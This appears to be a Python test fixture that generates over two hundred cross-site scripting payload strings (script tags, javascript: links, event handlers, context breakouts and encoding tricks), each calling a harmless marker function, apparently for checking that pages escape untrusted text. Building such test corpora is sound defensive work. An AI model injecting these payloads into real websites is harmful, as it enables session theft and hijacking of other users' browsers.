"""Strings that are script where they are shown carelessly. `HIT` is what they try to call."""

from __future__ import annotations

from collections.abc import Iterator

HIT = "top.pwned()"

_TAGS = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<script >{0}</script >",
    "<script/x>{0}</script>",
    "<script>/*<script>*/{0}</script>",
    "<script type=module>{0}</script>",
    "<script src=data:text/javascript,{0}></script>",
    "<svg><script>{0}</script></svg>",
    "<math><mi><script>{0}</script></mi></math>",
    "<iframe srcdoc='<script>top.{0}</script>'></iframe>",
    "<iframe src=javascript:{0}></iframe>",
    "<embed src=javascript:{0}>",
    "<object data=javascript:{0}></object>",
    "<base href=javascript:{0}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<link rel=stylesheet href=javascript:{0}>",
    "<style>@import 'javascript:{0}';</style>",
    "<form action=javascript:{0}><button autofocus>x</button></form>",
    "<a href=javascript:{0} autofocus>x</a>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'></noscript>",
    "<template><script>{0}</script></template>",
    "<!--><script>{0}</script>-->",
    "<![CDATA[<script>{0}</script>]]>",
    "<?xml version='1.0'?><script>{0}</script>",
)
_EVENTS = (
    "<img src=x onerror={0}>",
    "<img/src=x/onerror={0}>",
    '<img src="x" onerror="{0}">',
    "<img src=x onerror=\n{0}>",
    "<svg onload={0}>",
    "<svg/onload={0}>",
    "<svg><animate onbegin={0} attributeName=x dur=1s></svg>",
    "<svg><set onbegin={0} attributeName=x></svg>",
    "<body onload={0}>",
    "<input onfocus={0} autofocus>",
    "<select onfocus={0} autofocus></select>",
    "<textarea onfocus={0} autofocus></textarea>",
    "<video onerror={0}><source src=x></video>",
    "<video src=x onerror={0}></video>",
    "<audio src=x onerror={0}></audio>",
    "<details open ontoggle={0}><summary>x</summary></details>",
    "<marquee onstart={0}>x</marquee>",
    "<div onpointerrawupdate={0} style='position:fixed;inset:0'></div>",
    "<p style='animation:x 1s' onanimationstart={0}>x</p>",
    "<object data=x onerror={0}></object>",
    "<iframe onload={0}></iframe>",
    "<link rel=stylesheet href=x onerror={0}>",
    "<style onload={0}></style>",
    "<input type=image src=x onerror={0}>",
)
#: What gets out of where a careless page would put the text.
_BREAKS = ("", "'>", '">', "</title>", "</textarea>", "</style>", "</strong></li>", "--> ")


def corpus() -> list[str]:
    """Each string once, more than two hundred."""
    return list(dict.fromkeys(_strings()))


def _strings() -> Iterator[str]:
    for form in (*_TAGS, *_EVENTS):
        yield form.format(HIT)
    for prefix in _BREAKS[1:]:
        for form in (*_TAGS[:4], *_EVENTS[:16]):
            yield prefix + form.format(HIT)
    for quote in ("'", '"', "`"):
        yield f"{quote} autofocus onfocus={HIT} x={quote}"
        yield f"{quote};{HIT};//"
        yield f"{quote}-{HIT}-{quote}"
    yield "{{" + HIT + "}}"
    yield "${" + HIT + "}"
    yield "{{ ''.__class__.__mro__ }}<script>" + HIT + "</script>"
    yield "＜script＞" + HIT + "＜/script＞"
    yield "\u202e<script>" + HIT + "</script>"
    yield "<scr\x00ipt>" + HIT + "</scr\x00ipt>"
    yield "&lt;script&gt;" + HIT + "&lt;/script&gt;"
    yield "%3Cscript%3E" + HIT + "%3C/script%3E"
    yield "\\u003cscript\\u003e" + HIT + "\\u003c/script\\u003e"
